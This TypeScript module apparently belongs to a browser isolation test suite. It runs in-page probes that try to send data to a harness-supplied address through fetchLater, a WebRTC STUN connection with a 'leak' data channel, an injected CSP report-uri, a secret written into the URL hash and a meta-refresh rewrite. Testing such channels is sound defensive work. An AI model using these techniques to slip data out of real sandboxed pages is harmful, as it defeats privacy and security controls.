import type { OutsideTry } from '../outside-stage.ts';
import { heardOf, inPage } from './in-page.ts';

type FetchLater = (url: string, options?: { activateAfter: number }) => unknown;

const settleMs = 1500;

/** What may crash or end its page, or change it for good: each on a page of its own. */
export const endingTries: Readonly<Record<string, OutsideTry>> = {
  'fetch-later': inPage(later),
  'own-fetch-later': inPage(laterHere),
  'fetch-later-end': async ({ page, target }) => {
    const outcome = await heardOf(
      page.evaluate(({ secureUrl }) => {
        const { fetchLater } = globalThis as { fetchLater?: FetchLater };
        if (!fetchLater) return 'missing';
        fetchLater(secureUrl);
        return 'worked';
      }, target),
    );
    await page.close().catch(() => {}); // it may have crashed
    return outcome;
  },
  'rtc-frame': inPage(async ({ host }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const inside = frame.contentWindow as (Window & { RTCPeerConnection: typeof RTCPeerConnection }) | null;
    if (!inside) return 'no frame';
    const peer = new inside.RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    peer.createDataChannel('leak');
    await peer.setLocalDescription(await peer.createOffer());
    return 'no-word';
  }),
  'report-address': inPage(async ({ url }) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'Content-Security-Policy';
    meta.content = `img-src 'none'; report-uri ${url}`;
    document.head.append(meta);
    new Image().src = 'data:,';
    await new Promise((resolve) => setTimeout(resolve, 300));
    return 'no-word';
  }),
  history: inPage(({ secret }) => {
    history.pushState(null, '', `#${encodeURIComponent(secret)}`);
    return location.hash === '' ? 'failed' : 'worked';
  }),
  'document-rewritten': async ({ page, target }) => {
    const outcome = await heardOf(
      page.evaluate(({ url }) => {
        document.open();
        document.write(`<meta http-equiv="refresh" content="0; url=${url}">`);
        document.close();
        return 'no-word';
      }, target),
    );
    await page.waitForTimeout(settleMs).catch(() => {}); // it may be gone by then
    return outcome;
  },
};

/** Runs in the page. */
async function later({ secureUrl }: { secureUrl: string }): Promise<string> {
  const { fetchLater } = globalThis as { fetchLater?: FetchLater };
  if (!fetchLater) return 'missing';
  fetchLater(secureUrl, { activateAfter: 0 });
  await new Promise((resolve) => setTimeout(resolve, 1000));
  return 'worked';
}

/** The same for this site, whose address counts as safe on this machine without encryption. */
async function laterHere({ url }: { url: string }): Promise<string> {
  const { fetchLater } = globalThis as { fetchLater?: FetchLater };
  if (!fetchLater) return 'missing';
  fetchLater(url, { activateAfter: 0 });
  await new Promise((resolve) => setTimeout(resolve, 1000));
  return 'worked';
}
